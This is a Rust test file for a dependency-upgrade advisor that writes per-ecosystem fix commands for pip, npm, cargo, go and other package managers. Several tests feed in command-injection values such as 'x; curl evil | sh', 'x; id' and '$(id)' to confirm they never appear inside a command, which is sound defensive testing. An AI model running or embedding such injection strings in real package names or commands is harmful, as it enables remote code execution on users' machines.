use runward_model::{Package, SourceRef};

use super::*;

fn dependency(ecosystem: Ecosystem, name: &str, path: &str) -> Dependency {
    Dependency::new(
        Package::new(ecosystem, name, Some("1.0.0")),
        SourceRef::new(path, 3),
    )
}

fn lines(dependency: &Dependency, format: &str, version: Option<&str>) -> String {
    lines_of(dependency, Stands::File(format), version)
}

fn lines_of(dependency: &Dependency, stands: Stands<'_>, version: Option<&str>) -> String {
    steps(&Subject {
        dependency,
        stands,
        version,
        malicious: false,
        doubted: false,
        brought_by: Some("app-framework"),
        constrained_by: 0,
    })
    .iter()
    .map(Step::line)
    .collect::<Vec<_>>()
    .join(" | ")
}

#[test]
fn each_format_gets_its_own_command() {
    for (ecosystem, name, format, direct, expected) in [
        (
            Ecosystem::PyPI,
            "django",
            "requirements.txt",
            true,
            "edit requirements.txt:3: `django==4.2` | `python -m pip install -r requirements.txt`",
        ),
        (
            Ecosystem::PyPI,
            "django",
            "requirements.txt",
            false,
            "add to requirements.txt: `django==4.2` | `python -m pip install -r requirements.txt`",
        ),
        (
            Ecosystem::PyPI,
            "django",
            "uv.lock",
            true,
            "`uv lock --upgrade-package 'django==4.2'` | `uv sync`",
        ),
        (
            Ecosystem::PyPI,
            "django",
            "poetry.lock",
            true,
            "`poetry add 'django>=4.2'`",
        ),
        (
            Ecosystem::PyPI,
            "django",
            "poetry.lock",
            false,
            "`poetry update django`",
        ),
        (
            Ecosystem::PyPI,
            "django",
            "pdm.lock",
            false,
            "`pdm update app-framework`",
        ),
        (
            Ecosystem::Npm,
            "@a/b",
            "package-lock.json",
            true,
            "`npm install @a/b@4.2`",
        ),
        (
            Ecosystem::Npm,
            "@a/b",
            "pnpm-lock.yaml",
            true,
            "`pnpm add @a/b@4.2`",
        ),
        (
            Ecosystem::CratesIo,
            "time",
            "Cargo.lock",
            false,
            "`cargo update -p time@1.0.0 --precise 4.2`",
        ),
        (
            Ecosystem::Go,
            "example.org/x",
            "go.mod",
            true,
            "`go get example.org/x@v4.2` | `go mod tidy`",
        ),
        (
            Ecosystem::RubyGems,
            "rack",
            "Gemfile.lock",
            true,
            "`bundle update rack --conservative`",
        ),
        (
            Ecosystem::Packagist,
            "a/b",
            "composer.lock",
            false,
            "`composer update a/b --with-all-dependencies`",
        ),
        (
            Ecosystem::NuGet,
            "x",
            "packages.lock.json",
            true,
            "`dotnet add package x --version 4.2`",
        ),
    ] {
        let mut dependency = dependency(ecosystem, name, format);
        dependency.direct = direct;
        assert_eq!(lines(&dependency, format, Some("4.2")), expected);
    }
}

#[test]
fn hostile_names_never_reach_a_command() {
    let dependency = dependency(Ecosystem::Npm, "x; curl evil | sh", "package-lock.json");
    let text = lines(&dependency, "package-lock.json", Some("4.2"));
    assert!(
        text.starts_with("raise x; curl evil | sh to 4.2 where"),
        "{text}"
    );
    assert!(!text.contains('`'), "{text}");
    let fine = self::dependency(Ecosystem::Npm, "x", "package-lock.json");
    assert!(!lines(&fine, "package-lock.json", Some("$(id)")).contains('`'));
}

#[test]
fn malicious_packages_are_removed_not_upgraded() {
    let dependency = dependency(Ecosystem::PyPI, "evil", "requirements.txt");
    let steps = steps(&Subject {
        dependency: &dependency,
        stands: Stands::File("requirements.txt"),
        version: Some("2.0"),
        malicious: true,
        doubted: false,
        brought_by: None,
        constrained_by: 0,
    });
    assert_eq!(
        steps.first().and_then(|step| step.command.as_deref()),
        Some("python -m pip uninstall --yes evil")
    );
}

#[test]
fn constraints_of_dependants_are_said() {
    let mut dependency = dependency(Ecosystem::Npm, "x", "package-lock.json");
    dependency.direct = false;
    let steps = steps(&Subject {
        dependency: &dependency,
        stands: Stands::File("package-lock.json"),
        version: Some("4.2.0"),
        malicious: false,
        doubted: false,
        brought_by: None,
        constrained_by: 2,
    });
    let text = steps.iter().map(Step::line).collect::<Vec<_>>().join(" | ");
    assert!(
        text.contains("`\"overrides\": {\"x\": \"4.2.0\"}`"),
        "{text}"
    );
    assert!(
        text.contains("2 dependants' requirements do not allow 4.2.0"),
        "{text}"
    );
}

#[test]
fn an_environment_is_changed_by_installing() {
    let flask = dependency(
        Ecosystem::PyPI,
        "flask",
        ".venv/lib/python3.12/site-packages/flask-2.3.0.dist-info/METADATA",
    );
    let text = lines_of(&flask, Stands::Environment(".venv"), Some("2.3.2"));
    assert!(
        text.starts_with(
            "in the environment .venv: `python -m pip install 'flask==2.3.2'` | raise it too"
        ),
        "{text}"
    );
    assert!(!text.contains("METADATA"), "{text}");
    let hostile = dependency(Ecosystem::PyPI, "x; id", "e/x.dist-info/METADATA");
    assert_eq!(
        lines_of(&hostile, Stands::Environment("e"), Some("2")),
        "raise x; id to 2 in the environment e"
    );
}

#[test]
fn a_bill_is_not_edited() {
    for ecosystem in [Ecosystem::PyPI, Ecosystem::Npm, Ecosystem::Maven] {
        let package = dependency(ecosystem, "x", "x.cdx.json");
        assert_eq!(
            lines_of(&package, Stands::Bill, Some("4.2")),
            "upgrade x to 4.2 in the project that x.cdx.json describes, then write that SBOM again"
        );
    }
    let evil = dependency(Ecosystem::Npm, "evil", "x.cdx.json");
    let steps = steps(&Subject {
        dependency: &evil,
        stands: Stands::Bill,
        version: None,
        malicious: true,
        doubted: false,
        brought_by: None,
        constrained_by: 0,
    });
    assert_eq!(
        steps.first().map(Step::line).as_deref(),
        Some("remove it from the project that x.cdx.json describes and from every machine")
    );
}

#[test]
fn a_compiled_file_is_compiled_not_edited() {
    let pillow = dependency(Ecosystem::PyPI, "pillow", "req/prod.txt");
    assert_eq!(
        lines_of(
            &pillow,
            Stands::Compiled(Some("req/prod.in")),
            Some("10.3.0")
        ),
        "compile req/prod.txt again, after raising it in req/prod.in if that pins it: \
         `pip-compile --upgrade-package 'pillow==10.3.0' req/prod.in`"
    );
    let text = lines_of(&pillow, Stands::Compiled(None), Some("10.3.0"));
    assert!(
        text.ends_with(
            ": `pip-compile --output-file req/prod.txt --upgrade-package 'pillow==10.3.0'`"
        ),
        "{text}"
    );
    assert!(!text.contains(".in`"), "{text}");
}

#[test]
fn a_requirement_of_the_project_itself_is_raised_first() {
    let mut held = dependency(Ecosystem::PyPI, "requests", "uv.lock");
    held.requirement = Some("==2.25.0".to_owned());
    assert_eq!(
        lines(&held, "uv.lock", Some("2.31.0")),
        "the project itself asks for `requests ==2.25.0`: allow 2.31.0 in its manifest first | \
         `uv lock --upgrade-package 'requests==2.31.0'` | `uv sync`"
    );
    held.requirement = Some(">=2.25".to_owned());
    assert!(!lines(&held, "uv.lock", Some("2.31.0")).contains("asks for"));
}

#[test]
fn a_lock_below_the_root_names_its_directory() {
    let nested = dependency(Ecosystem::Npm, "express", "web/app/package-lock.json");
    let said = lines(&nested, "package-lock.json", Some("4.19.2"));
    assert_eq!(said, "in web/app: `npm install express@4.19.2`");
}
